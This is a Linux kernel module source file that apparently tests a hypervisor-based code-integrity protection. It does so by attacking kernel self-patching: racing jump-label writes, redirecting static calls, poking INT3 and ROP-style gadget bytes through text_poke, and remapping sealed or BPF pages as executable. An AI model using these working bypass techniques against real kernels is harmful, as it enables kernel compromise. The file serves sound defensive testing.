// SPDX-License-Identifier: GPL-2.0
/*
 * Attacks by way of how Linux patches its own code
 *
 * What may be patched, and with what, is known for each place. So an attacker
 * tries to have it checked while it is that, and written when it is not; to have a
 * static call lead elsewhere; or to have a jump whose displacement is code.
 */
#include <linux/cpumask.h>
#include <linux/gfp.h>
#include <linux/io.h>
#include <linux/jump_label.h>
#include <linux/kthread.h>
#include <linux/module.h>
#include <linux/sched.h>
#include <linux/smp.h>
#include <linux/static_call.h>
#include <linux/string.h>

#include "attack_module.h"
#include "code.h"
#include "hypercall.h"
#include "requests.h"

/* Until one is won, which is a matter of chance; far more than that takes */
#define RACES		10000
#define JUMP_MAX	5	/* a jump label's bytes: 2 or 5 */
#define NOP1		0x90
#define MOVL_EAX	0xb8

static DEFINE_STATIC_KEY_FALSE(race_key);
DEFINE_STATIC_CALL(attack_static_call, attack_canary);

/* What the two CPUs have in common */
static struct {
	u8 bytes[JUMP_MAX];
	u8 legal[JUMP_MAX];
	u8 illegal[JUMP_MAX];
	size_t size;
} race;

static noinline bool race_branch(void)
{
	return static_branch_unlikely(&race_key);
}

static u8 *find_jump_label(void)
{
	struct jump_entry *entry = THIS_MODULE->jump_entries;
	unsigned int i;

	for (i = 0; i < THIS_MODULE->num_jump_entries; i++) {
		if (jump_entry_key(&entry[i]) == &race_key.key)
			return (u8 *)jump_entry_code(&entry[i]);
	}
	return NULL;
}

static int change_bytes(void *unused)
{
	while (!kthread_should_stop()) {
		/* Either is there for as long as the other. */
		memcpy(race.bytes, race.illegal, race.size);
		cond_resched();
		memcpy(race.bytes, race.legal, race.size);
		cond_resched();
	}
	return 0;
}

static struct task_struct *start_changing(void)
{
	unsigned int cpu = cpumask_any_but(cpu_online_mask,
					   raw_smp_processor_id());
	struct task_struct *task;

	if (cpu >= nr_cpu_ids)
		return NULL;
	task = kthread_create(change_bytes, NULL, "attack_race");
	if (IS_ERR(task))
		return NULL;
	kthread_bind(task, cpu);
	wake_up_process(task);
	return task;
}

/* To a jump label, from where another CPU writes all the time */
static void race_source(struct attack_request *q)
{
	u8 *site = find_jump_label(), before[JUMP_MAX], now[JUMP_MAX];
	struct task_struct *other;
	bool won = false;
	unsigned int i;

	if (!site)
		return;
	race.size = site[0] == 0x66 ? 2 : JUMP_MAX;
	memcpy(before, site, race.size);
	static_branch_enable(&race_key);
	memcpy(race.legal, site, race.size);
	static_branch_disable(&race_key);
	memset(race.illegal, NOP1, race.size);
	memcpy(race.bytes, race.legal, race.size);

	other = start_changing();
	for (i = 0; other && i < RACES && !won; i++) {
		attack_write(WAY_ALIAS, site, race.bytes, race.size);
		memcpy(now, site, race.size);
		won = memcmp(now, before, race.size) &&
		      memcmp(now, race.legal, race.size);
		attack_write(WAY_ALIAS, site, before, race.size);
	}
	q->after = i;
	if (other) {
		kthread_stop(other);
		q->effect = won ? ATTACK_SUCCEEDED : ATTACK_HAD_NO_EFFECT;
	}
	/* Nobody asks; but the label has to be one. */
	q->before = race_branch();
}

static noinline u32 call_static(void)
{
	return static_call(attack_static_call)();
}

static void lead_static_call(struct attack_request *q, void *target)
{
	q->before = call_static();
	__static_call_update(&STATIC_CALL_KEY(attack_static_call),
			     STATIC_CALL_TRAMP_ADDR(attack_static_call), target);
	q->after = call_static();
	static_call_update(attack_static_call, &attack_canary);
	if (q->before == ATTACK_CANARY)
		q->effect = q->after == ATTACK_FORGED ? ATTACK_SUCCEEDED :
							ATTACK_HAD_NO_EFFECT;
}

/* Another function: that is what static calls are for. */
static void call_other(struct attack_request *q)
{
	lead_static_call(q, attack_other_canary);
}

/* A place in a function */
static void call_middle(struct attack_request *q)
{
	u8 *at = (u8 *)attack_other_canary;

	OPTIMIZER_HIDE_VAR(at);
	do {
		at++;
	} while (*at != MOVL_EAX);
	lead_static_call(q, at);
}

#define INT3		0xcc
#define JUMP_SIZE	5
#define FURTHEST	16	/* into a function: its ENDBR, and what is to be patched */

static void patch(u8 *at, const u8 *bytes, size_t size)
{
	attack_call(attack_symbol("text_poke_kgdb"), (u64)at, (u64)bytes, size, 0);
}

static u8 *find_in(u8 *function, const u8 *bytes, size_t size)
{
	u8 *at;

	for (at = function; at < function + FURTHEST; at++) {
		if (!memcmp(at, bytes, size))
			return at;
	}
	return NULL;
}

/* INT3 in what attack_canary() is to return */
static void probe_middle(struct attack_request *q)
{
	static const u32 canary = ATTACK_CANARY;
	static const u8 int3 = INT3;
	u8 *function = (u8 *)attack_canary, *at;

	OPTIMIZER_HIDE_VAR(function);
	at = find_in(function, (const u8 *)&canary, sizeof(canary));
	if (!at)
		return;
	q->before = attack_canary();
	patch(at, &int3, 1);
	q->after = attack_canary();
	patch(at, (const u8 *)&canary, 1);
	q->effect = (u8)q->after == INT3 ? ATTACK_SUCCEEDED : ATTACK_HAD_NO_EFFECT;
}

/*
 * The bytes of a displacement: lowest of the address; "xchg %eax, %edi; ret", which
 * returns the first argument; and how far it is
 */
#define XCHG_EAX_EDI	0x97
#define RET_NEAR	0xc3
#define GADGET_OFFSET	2	/* behind the site */
#define GADGET_ARGUMENT	0x5a11ed
#define DISPLACEMENT	(JUMP_SIZE - 1)

/* What Linux puts into a page of its own begins at a multiple of this. */
#define TARGET_ALIGNMENT	64

static u64 target_of(const u8 *site, const u8 displacement[DISPLACEMENT])
{
	s32 distance;

	memcpy(&distance, displacement, sizeof(distance));
	return (u64)site + JUMP_SIZE + distance;
}

/* With that, and leading to where nothing is */
static bool find_displacement(const u8 *site, u8 displacement[DISPLACEMENT])
{
	unsigned int level;
	u64 to, pa;

	displacement[1] = XCHG_EAX_EDI;
	displacement[2] = RET_NEAR;
	for (displacement[3] = 0; displacement[3] < 0x40; displacement[3]++) {
		displacement[0] = 0;
		displacement[0] = -target_of(site, displacement) &
				  (TARGET_ALIGNMENT - 1);
		to = target_of(site, displacement);
		if (to >= MODULES_VADDR && to < MODULES_END &&
		    !attack_entry(to, &pa, &level))
			return true;
	}
	return false;
}

/* In the order in which Linux has a jump or a call come, but for its first byte */
static void run_displacement(struct attack_request *q, u8 *site,
			     const u8 displacement[DISPLACEMENT])
{
	static const u8 int3 = INT3;
	u8 old[JUMP_SIZE];

	memcpy(old, site, sizeof(old));
	patch(site, &int3, 1);
	patch(site + 1, displacement, DISPLACEMENT);
	q->effect = ATTACK_HAD_NO_EFFECT;
	/* What was refused has been made what is there, where it came from, too. */
	if (site[GADGET_OFFSET] == XCHG_EAX_EDI &&
	    site[GADGET_OFFSET + 1] == RET_NEAR) {
		q->after = attack_call((u64)site + GADGET_OFFSET,
				       GADGET_ARGUMENT, 0, 0, 0);
		if ((u32)q->after == GADGET_ARGUMENT)
			q->effect = ATTACK_SUCCEEDED;
		patch(site + 1, old + 1, DISPLACEMENT);
	}
	patch(site, old, 1);
}

static void probe_gadget(struct attack_request *q)
{
	static const u8 begins[] = { NOP1, MOVL_EAX };
	u8 *function = (u8 *)attack_other_canary, *site;
	u8 displacement[DISPLACEMENT];

	OPTIMIZER_HIDE_VAR(function);
	site = find_in(function, begins, sizeof(begins));
	if (site && find_displacement(site, displacement))
		run_displacement(q, site, displacement);
}

/* A function's entry, where a tracer's call may come */
static u8 *find_entry(u8 displacement[DISPLACEMENT])
{
	static const u8 nop5[] = { 0x0f, 0x1f, 0x44, 0x00, 0x00 };
	u8 *function = (u8 *)race_branch, *site;

	OPTIMIZER_HIDE_VAR(function);
	site = find_in(function, nop5, sizeof(nop5));
	return site && find_displacement(site, displacement) ? site : NULL;
}

static void entry_gadget(struct attack_request *q)
{
	u8 displacement[DISPLACEMENT], *site = find_entry(displacement);

	if (site)
		run_displacement(q, site, displacement);
}

/* The page-table entry; NULL where the kernel makes none */
static u64 *map_page(u64 va, u64 pa, pgprot_t protection)
{
	u64 map = attack_symbol("vmap_page_range") ? :
		  attack_symbol("ioremap_page_range");
	unsigned int level;
	u64 unused;

	va &= PAGE_MASK;
	if (!map || (int)attack_call(map, va, va + PAGE_SIZE, pa & PAGE_MASK,
				     pgprot_val(protection)))
		return NULL;
	return attack_entry(va, &unused, &level);
}

/* It leads to data that have been named to be sealed, and look like a function. */
static void entry_rodata(struct attack_request *q)
{
	static const u8 endbr[] = { 0xf3, 0x0f, 0x1e, 0xfa };
	u8 displacement[DISPLACEMENT], *site = find_entry(displacement);
	u8 *page = (u8 *)get_zeroed_page(GFP_KERNEL);
	struct seal_request seal = { .class = CLASS_RODATA, .pages = 1 };
	u64 *entry = NULL, to;

	if (site && page) {
		to = target_of(site, displacement);
		memcpy(page + to % PAGE_SIZE, endbr, sizeof(endbr));
		entry = map_page(to, __pa(page), PAGE_KERNEL_RO);
	}
	if (entry) {
		seal.va = to & PAGE_MASK;
		attack_hypercall(HYPERCALL_SEAL, (u64)&seal, 0);
		run_displacement(q, site, displacement);
		attack_set_entry(entry, 0, to);
	}
	/* Not while it is mapped. Locked, it stays sealed. */
	if (page && attack_hypercall(HYPERCALL_RELEASE, __pa(page), 0) != -EPERM)
		free_page((unsigned long)page);
}

/* It leads to code that was made at run time, and is elsewhere. */
static void entry_alias(struct attack_request *q)
{
	u8 displacement[DISPLACEMENT], *site = find_entry(displacement);
	unsigned int level;
	u64 *entry, pa, to;
	u8 *program;
	u32 size;

	program = attack_bpf_program(q->argument, &size);
	if (!site || !program || !attack_entry((u64)program, &pa, &level))
		return;
	to = target_of(site, displacement);
	entry = map_page(to, pa, PAGE_KERNEL_ROX);
	if (!entry)
		return;
	/* Who maps by that function does not get to run it. */
	attack_set_entry(entry, *entry & ~_PAGE_NX, to);
	run_displacement(q, site, displacement);
	attack_set_entry(entry, 0, to);
}

static void (*const attacks[])(struct attack_request *q) = {
#define A(constant, function)						\
	[ATTACK_CODE_##constant - ATTACK_CODE_CALL_OTHER] = function
	A(CALL_OTHER, call_other),
	A(CALL_MIDDLE, call_middle),
	A(RACE_SOURCE, race_source),
	A(PROBE_MIDDLE, probe_middle),
	A(PROBE_GADGET, probe_gadget),
	A(ENTRY_GADGET, entry_gadget),
	A(ENTRY_RODATA, entry_rodata),
	A(ENTRY_ALIAS, entry_alias),
#undef A
};

static void perform(struct attack_request *q)
{
	attacks[q->attack - ATTACK_CODE_CALL_OTHER](q);
}

const struct attack_group attack_patch = {
	.first = ATTACK_CODE_CALL_OTHER,
	.last = ATTACK_CODE_ENTRY_ALIAS,
	.perform = perform,
};
